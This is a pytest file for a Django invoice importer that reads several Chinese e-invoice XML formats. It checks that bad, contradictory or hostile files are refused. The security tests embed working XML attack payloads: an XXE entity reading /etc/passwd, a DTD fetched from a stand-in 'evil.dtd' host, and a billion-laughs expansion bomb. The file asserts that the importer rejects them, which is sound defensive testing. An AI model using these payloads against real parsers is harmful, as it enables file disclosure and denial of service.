"""Invoice files of other origin: four dialects become one value; hostile or wrong files become one line."""

import json
import socket
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from invoicing.documents import xml_safe
from invoicing.documents.xml import render_einvoice
from invoicing.documents.xml_import import ForeignInvoice, ForeignParty, import_invoice
from invoicing.documents.xml_safe import InvalidDocument
from tests.documents.samples import invoice, line

CHINESE = """<?xml version="1.0" encoding="{encoding}"?>
<发票>
  <发票类型>电子发票（普通发票）</发票类型>
  <发票号码>26111000000000100001</发票号码>
  <开票日期>2026年3月5日</开票日期>
  <购买方名称>青岛海棠示例数据服务有限公司</购买方名称>
  <购买方纳税人识别号>91370200MA3C8XTY1Q</购买方纳税人识别号>
  <销售方信息><名称>云杉示例科技（北京）有限公司</名称><纳税人识别号>91110108MA0EXAMP19</纳税人识别号></销售方信息>
  <合计金额>-2,500.00</合计金额>
  <合计税额>-150</合计税额>
  <价税合计>-2650.00</价税合计>
  <被红冲蓝字发票号码>26111000000000000007</被红冲蓝字发票号码>
  <备注>销货退回</备注>
  <电子签名><签名值>AAAA</签名值></电子签名>
</发票>
"""
PINYIN = """<发票>
  <FPHM>26321000000000100007</FPHM><KPRQ>20260730</KPRQ>
  <XSFMC>云杉示例餐饮（无锡）有限公司</XSFMC><XSFNSRSBH>91110108MA0EXAMP19</XSFNSRSBH>
  <GMFMC>个人</GMFMC><GMFNSRSBH></GMFNSRSBH>
  <HJJE>57.28</HJJE><HJSE>1.72</HJSE><JSHJXX>59.00</JSHJXX>
</发票>
"""
OLD = """<?xml version="1.0" encoding="utf-8"?>
<eInvoice xmlns:fp="http://www.edrm.org.cn/schema/e-invoice/2019" Version="1.0">
  <fp:InvoiceCode>011002600311</fp:InvoiceCode>
  <fp:InvoiceNo>00010038</fp:InvoiceNo>
  <fp:IssueDate>2020年04月07日</fp:IssueDate>
  <fp:Buyer><fp:BuyerName>海棠示例有限公司</fp:BuyerName><fp:BuyerTaxID>91370200MA3C8XTY1Q</fp:BuyerTaxID></fp:Buyer>
  <fp:Seller><fp:SellerName>云杉示例茶馆</fp:SellerName><fp:SellerTaxID>91110108MA0EXAMP19</fp:SellerTaxID></fp:Seller>
  <fp:TaxInclusiveTotalAmount>318.00</fp:TaxInclusiveTotalAmount>
  <fp:TaxTotalAmount>18.00</fp:TaxTotalAmount>
  <fp:TaxExclusiveTotalAmount>300.00</fp:TaxExclusiveTotalAmount>
  <fp:GoodsInfos>
    <fp:GoodsInfo><fp:Item>*餐饮服务*餐费</fp:Item><fp:MeasurementDimension>次</fp:MeasurementDimension>
      <fp:Quantity>4</fp:Quantity><fp:Amount>200.00</fp:Amount><fp:TaxScheme>6%</fp:TaxScheme><fp:TaxAmount>12.00</fp:TaxAmount>
    </fp:GoodsInfo>
    <fp:GoodsInfo><fp:Item>*餐饮服务*茶</fp:Item>
      <fp:Amount>100.00</fp:Amount><fp:TaxScheme>免税</fp:TaxScheme><fp:TaxAmount>6.00</fp:TaxAmount>
    </fp:GoodsInfo>
  </fp:GoodsInfos>
</eInvoice>
"""


def chinese(encoding: str = "UTF-8") -> bytes:
    return CHINESE.format(encoding=encoding).encode(encoding)


def test_our_own_file_is_read_as_the_snapshot_says() -> None:
    read = import_invoice(render_einvoice(invoice()))
    assert (read.dialect, read.number, read.kind, read.issued_on) == (
        "einvoice",
        "26991000000000000042",
        "special",
        date(2026, 3, 5),
    )
    assert read.buyer == ForeignParty("青岛海棠示例数据服务有限公司", "91370200MA3C8XTY1Q")
    assert (read.net, read.tax, read.gross) == (
        Decimal("5785.38"),
        Decimal("347.12"),
        Decimal("6132.50"),
    )
    first = read.lines[0]
    assert (first.short_name, first.content, first.rate, first.quantity, first.unit) == (
        "信息技术服务",
        "云服务器",
        Decimal("0.06"),
        Decimal(1),
        "月",
    )


def test_a_real_file_with_more_than_we_write_is_read() -> None:
    written = render_einvoice(invoice(line("云服务器", "106"), specimen=False)).decode()
    real = (
        written.replace("26991000", "26111000")
        .replace("<TaxRate>0.06", "<TaxRate>0.060000")
        .replace(
            "</EInvoice>",
            "<TaxBureauSignature><Reference URI='x'/></TaxBureauSignature></EInvoice>",
        )
    )
    read = import_invoice(real.encode())
    assert (read.signed, read.specimen, read.lines[0].rate) == (True, False, Decimal("0.06"))


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK", "gb18030", "UTF-16"])
def test_chinese_tags_in_every_usual_encoding(encoding: str) -> None:
    read = import_invoice(chinese(encoding))
    assert (read.dialect, read.number, read.kind, read.issued_on) == (
        "chinese",
        "26111000000000100001",
        "general",
        date(2026, 3, 5),
    )
    assert read.seller == ForeignParty("云杉示例科技（北京）有限公司", "91110108MA0EXAMP19")
    assert (read.net, read.tax, read.gross) == (
        Decimal("-2500.00"),
        Decimal("-150.00"),
        Decimal("-2650.00"),
    )
    assert (read.credit_of, read.remarks, read.signed) == ("26111000000000000007", "销货退回", True)


def test_pinyin_tags() -> None:
    read = import_invoice(PINYIN.encode())
    assert (read.dialect, read.number, read.gross) == (
        "pinyin",
        "26321000000000100007",
        Decimal("59.00"),
    )
    assert (read.issued_on, read.buyer, read.lines) == (
        date(2026, 7, 30),
        ForeignParty("个人"),
        (),
    )


def test_the_einvoice_of_2019() -> None:
    read = import_invoice(OLD.encode())
    assert (read.dialect, read.code, read.number, read.kind) == (
        "einvoice-2019",
        "011002600311",
        "00010038",
        "",
    )
    assert [(row.content, row.net, row.rate) for row in read.lines] == [
        ("餐费", Decimal("200.00"), Decimal("0.06")),
        ("茶", Decimal("100.00"), None),
    ]
    assert read.gross == Decimal("318.00")


def test_what_was_imported_survives_its_json() -> None:
    read = import_invoice(OLD.encode())
    assert ForeignInvoice.from_json(read.to_json()) == read


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><EInvoice>&x;</EInvoice>"""
REMOTE = b"""<?xml version="1.0"?>
<!DOCTYPE EInvoice SYSTEM "http://192.0.2.1/evil.dtd"><EInvoice/>"""
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]><EInvoice>&l9;</EInvoice>"
)


@pytest.mark.parametrize("content", [XXE, REMOTE, LAUGHS])
def test_document_types_and_entities_are_refused_and_nothing_is_fetched(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:  # R54
    def connect(*_: object) -> None:
        raise AssertionError("something was fetched")

    monkeypatch.setattr(socket.socket, "connect", connect)
    with pytest.raises(InvalidDocument, match="declares a document type or entities"):
        import_invoice(content)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", "is empty"),
        (b" \n", "is empty"),
        (b"not xml", "not well-formed"),
        (b"<EInvoice><a></EInvoice>", "not well-formed"),
        (b"<EInvoice>&nbsp;</EInvoice>", "not well-formed|entities"),
        (chinese("GBK").replace(b"GBK", b"UTF-8"), "not well-formed"),
        (
            chinese("UTF-8").replace(b'"UTF-8"', b'"GBK"'),
            "not in its encoding|not well-formed|no invoice",
        ),
        (
            chinese("UTF-8").replace(b'"UTF-8"', b'"EBCDIC-9"'),
            "not well-formed|encoding that is not read",
        ),
        (b'<?xml version="1.0" encoding="GBK"?><a>\xff\xff</a>', "not in its encoding"),
        (b"<html/>", "no invoice that can be read: its root is 'html'"),
        (b"%PDF-1.7", "not well-formed"),
        (b"<a>" * 40 + b"</a>" * 40, "nests them too deeply"),
        (b"<a>" + b"<b/>" * 200_001 + b"</a>", "too many elements"),
        (b"<EInvoice>" + b"x" * xml_safe.MAX_BYTES + b"</EInvoice>", "larger than 8 MB"),
    ],
)
def test_what_is_no_invoice_is_refused_in_one_line(content: bytes, problem: str) -> None:
    with pytest.raises(InvalidDocument, match=problem) as refused:
        import_invoice(content)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("<价税合计>-2650.00", "<价税合计>-2650.01", "-2500.00 [+] -150.00 is not -2650.01"),
        ("<合计税额>-150", "<合计税额>-150.001", "not an amount in cents"),
        ("<合计税额>-150", "<合计税额>NaN", "'NaN' is not a number"),
        ("<合计税额>-150", "<合计税额>1E5", "'1E5' is not a number"),
        ("<合计税额>-150", "<合计税额>１５０", "is not a number"),
        ("<合计金额>-2,500.00", f"<合计金额>{'9' * 41}", "is not a number"),
        ("<合计金额>-2,500.00", f"<合计金额>{'9' * 40}", "not an amount in cents"),
        ("26111000000000100001", "2611100000000010000x", "is not one of an invoice"),
        ("26111000000000100001", "123", "is not one of an invoice"),
        ("2026年3月5日", "2026年13月5日", "is not a date"),
        ("2026年3月5日", "yesterday", "is not a date"),
        ("青岛海棠示例数据服务有限公司", "", "does not name the buyer"),
        ("<备注>", "<备注/><备注>", "2 elements 备注"),
    ],
)
def test_figures_that_contradict_each_other_are_refused(old: str, new: str, problem: str) -> None:
    written = chinese().decode()
    assert old in written
    with pytest.raises(InvalidDocument, match=problem):
        import_invoice(written.replace(old, new).encode())


def test_rows_must_sum_to_the_total() -> None:
    with pytest.raises(InvalidDocument, match=r"rows sum to a net of 300\.01"):
        import_invoice(OLD.replace("200.00</fp:Amount>", "200.01</fp:Amount>").encode())


def _run(path: Path) -> str:
    out = StringIO()
    call_command("read_invoice", str(path), stdout=out)
    return out.getvalue()


def test_the_command_prints_the_figures_as_json(tmp_path: Path) -> None:
    file = tmp_path / "invoice.xml"
    file.write_bytes(chinese("GBK"))
    printed = json.loads(_run(file))
    assert (printed["number"], printed["gross"]) == ("26111000000000100001", "-2650.00")
    assert printed["seller"]["name"] == "云杉示例科技（北京）有限公司"


@pytest.mark.parametrize(
    ("spoil", "problem"),
    [
        (lambda file: file.write_bytes(XXE), "declares a document type"),
        (lambda file: file.mkdir(), "Is a directory"),
        (lambda file: None, "No such file"),
    ],
)
def test_the_command_says_in_one_line_why_a_file_is_bad(
    spoil: Callable[[Path], object], problem: str, tmp_path: Path
) -> None:
    file = tmp_path / "bad.xml"
    spoil(file)
    with pytest.raises(CommandError, match=problem) as refused:
        _run(file)
    assert refused.value.returncode == 1
    assert "\n" not in str(refused.value)
